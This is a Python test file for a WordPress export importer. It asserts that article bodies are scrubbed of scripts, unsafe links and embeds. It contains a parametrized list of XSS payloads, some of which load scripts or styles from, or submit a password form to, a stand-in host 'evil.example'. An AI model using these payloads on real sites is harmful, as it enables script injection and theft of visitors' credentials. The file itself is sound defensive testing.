"""An export is a stranger's file. Nothing in it may run, load or hide in an article."""

import re
import time
from html import unescape

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from byline.lib.scrub import scrub_html
from transfer.wordpress.bodies import OLD, blocks, converted, remarks

ATTACKS = [
    "<script>alert(1)</script>",
    "<script src=https://evil.example/x.js></script>",
    '<img src=x onerror="alert(1)">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href=" &#106;avascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:x">x</a>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="data:image/svg+xml,<svg onload=alert(1)>">',
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    '<table background="javascript:alert(1)"><tr><td onclick="alert(1)" colspan=2>x</td></tr></table>',
    '<details open ontoggle="alert(1)"><summary>x</summary>y</details>',
    '<dl><dt style="background:url(javascript:alert(1))">x</dt></dl>',
    '<form action="https://evil.example/"><input name=password><button formaction="javascript:alert(1)">x</button></form>',
    "<style>@import url(https://evil.example/x.css)</style>",
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<meta http-equiv=refresh content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '[caption caption="<script>alert(1)</script>"]<img src=x onerror=alert(1)>[/caption]',
    "[embed]javascript:alert(1)[/embed]",
    '[video mp4="javascript:alert(1)"]',
    '<!-- wp:embed {"url":"javascript:alert(1)"} --><figure>x</figure><!-- /wp:embed -->',
    '<!-- wp:acme/x {"a":"--\\u003e<script>alert(1)</script>"} /-->',
    '<!-- wp:cover {"url":"\\" onerror=alert(1) x=\\""} --><div>x</div><!-- /wp:cover -->',
    '<x-placeholder n="1"></x-placeholder><!-- wp:html --><b>x</b><!-- /wp:html -->',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<mark onclick="alert(1)">x</mark>',
    '<bdo dir="rtl" style="position:fixed">x</bdo>',
    '<abbr title="&quot;><script>alert(1)</script>">x</abbr>',
]
ALLOWED = re.compile(r"</?(?:p|b|i|sup|sub|s|code|ul|ol|li)>|<br/>|<a href=\"[^\"<>]*\">|</a>")
ADDRESS = re.compile(r'href="([^"]*)"')
SAFE = re.compile(r"(?:https?://|mailto:|tel:|/|#)", re.IGNORECASE)


def check(body: str) -> None:
    """Rich text holds only what the editor's text may hold; kept HTML is what the scrubber leaves
    of it; addresses are addresses.
    """
    for block in converted(body).blocks:
        value = block["value"]
        if block["type"] == "text":
            assert "<" not in ALLOWED.sub("", value)
            assert all(SAFE.match(unescape(href)) for href in ADDRESS.findall(value))
        elif block["type"] == "imported_html":
            shown = scrub_html(value)
            assert shown == scrub_html(re.sub(r"<!--.*?-->", "", value, flags=re.DOTALL))
            assert "<script" not in shown.lower()
            assert not re.search(r"<[^>]*\son\w+=", shown)
        elif block["type"] == "embed":
            assert re.match(r"https?://", value["url"])


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize(
    "around",
    [
        "{}",
        "<p>words {} words</p>",
        "<ul><li>{}</li></ul>",
        "<blockquote>{}</blockquote>",
        "<!-- wp:html -->{}<!-- /wp:html -->",
    ],
)
def test_attacks_come_to_nothing(attack: str, around: str) -> None:
    check(around.format(attack))


@pytest.mark.parametrize(
    ("body", "removed"),
    [
        ("<script src='https://evil.example/x.js'></script>", "<script> https://evil.example/x.js"),
        ('<a href="javascript:x">x</a>', "link to javascript:x"),
        ("<svg></svg>", "<svg>"),
        ("<iframe></iframe>", "<iframe> without an address that can be kept"),
        ("<form><input></form>", "<form>"),
        ("<dl onclick='x'><dt>y</dt></dl>", "onclick of <dl>"),
        ("<object></object>", "<object> without an address that can be kept"),
    ],
)
def test_what_was_taken_out_is_told(body: str, removed: str) -> None:
    assert ("removed", removed) in remarks(body)


def test_frames_become_embeds() -> None:
    assert blocks(
        '<p>See <iframe src="//player.vimeo.com/video/12345678" title="The launch"></iframe></p>'
    ) == [
        {"type": "text", "value": "<p>See</p>"},
        {
            "type": "embed",
            "value": {
                "url": "https://player.vimeo.com/video/12345678",
                "title": "The launch",
                "caption": "",
            },
        },
    ]
    flash = '<object><param name="movie" value="https://www.youtube.com/v/abcdef12345"><embed src="https://www.youtube.com/v/abcdef12345"></object>'
    assert [block["type"] for block in blocks(flash)] == ["embed"]


def test_a_picture_of_another_host_never_loads() -> None:
    for body in (
        '<img src="https://elsewhere.example/a.jpg">',
        '<dl><dt><img src="https://elsewhere.example/a.jpg"></dt></dl>',
    ):
        [block] = blocks(body)
        assert "<img" not in scrub_html(block["value"])
        assert "https://elsewhere.example/a.jpg" in block["value"]


LONG = {
    "openers": "<!-- wp:a ",
    "comments": "<!--",
    "brackets": "[a ",
    "captions": "[caption]",
    "breaks": "<br>",
    "spaces": "a" + " " * 50 + "\n",
    "tags": "<b>",
    "angles": "<",
    "paragraphs": "<p>a</p>",
    "entities": "&nbsp;",
    "styles": '<span style="text-decoration:',
    "pictures": f'<img src="{OLD}/a.jpg">',
    "players": "https://youtu.be/abcdef12345\n",
}


@pytest.mark.parametrize("what", LONG)
def test_long_bodies_take_time_in_proportion(what: str) -> None:
    def seconds(times: int) -> float:
        start = time.process_time()
        converted(LONG[what] * times)
        return time.process_time() - start

    short = max(min(seconds(2_000), seconds(2_000)), 0.004)
    assert any(
        seconds(16_000) < short * 8 * 4 for _again in range(3)
    )  # a busy machine may be slow once


markup = st.lists(
    st.sampled_from(
        "<p> </p> <b> </b> <i> </i> <a href='https://a.example/'> <a href='#x'> </a> <ul> </ul> "
        "<ol start='3'> <li> </li> <blockquote> </blockquote>"
        " <table> <tr> <td> </td> </tr> </table> <h2> </h2> <h5> <img src='/x.jpg'> <br> <hr> "
        "<pre> </pre> <div> </div> <span dir='rtl'> </span>"
        " <figure> </figure> <figcaption> <iframe src='https://p.example/1'> </iframe> <dl> <dt> "
        "<mark> </mark> <!--nextpage--> <!--x--> [gallery]"
        " [caption] [/caption] [foo a=b] <script> </script> <style> <svg> <code> </code> word & &amp; &lt;".split(
            " "
        )
    )
    | st.sampled_from(
        [
            "\n",
            "\n\n",
            "<!-- wp:group -->",
            "<!-- /wp:group -->",
            "<!-- wp:html -->",
            "<!-- /wp:html -->",
            "<!-- wp:x {} /-->",
            "https://youtu.be/abcdef12345\n",
        ]
    ),
    max_size=40,
).map("".join)


@settings(max_examples=300, deadline=None)
@given(markup)
def test_whatever_is_written_is_set_safely(body: str) -> None:
    check(body)


@settings(max_examples=300, deadline=None)
@given(
    st.lists(
        st.sampled_from(
            [
                "<p>{}</p>",
                "{}\n\n",
                "<b>{}</b>",
                "<li>{}</li>",
                "<div><i>{}</i></div>",
                "<td>{}</td>",
                "<h2>{}</h2>",
                "<blockquote>{}</blockquote>",
                "<!-- wp:group --><div>{}</div><!-- /wp:group -->",
            ]
        ),
        max_size=12,
    )
)
def test_no_word_is_lost_and_none_changes_its_place(shapes: list[str]) -> None:
    words = [f"word{number}" for number in range(len(shapes))]
    body = "".join(shape.format(word) for shape, word in zip(shapes, words, strict=True))
    text = " ".join(str(block["value"]) for block in blocks(body))
    assert re.findall(r"word\d+", text) == words
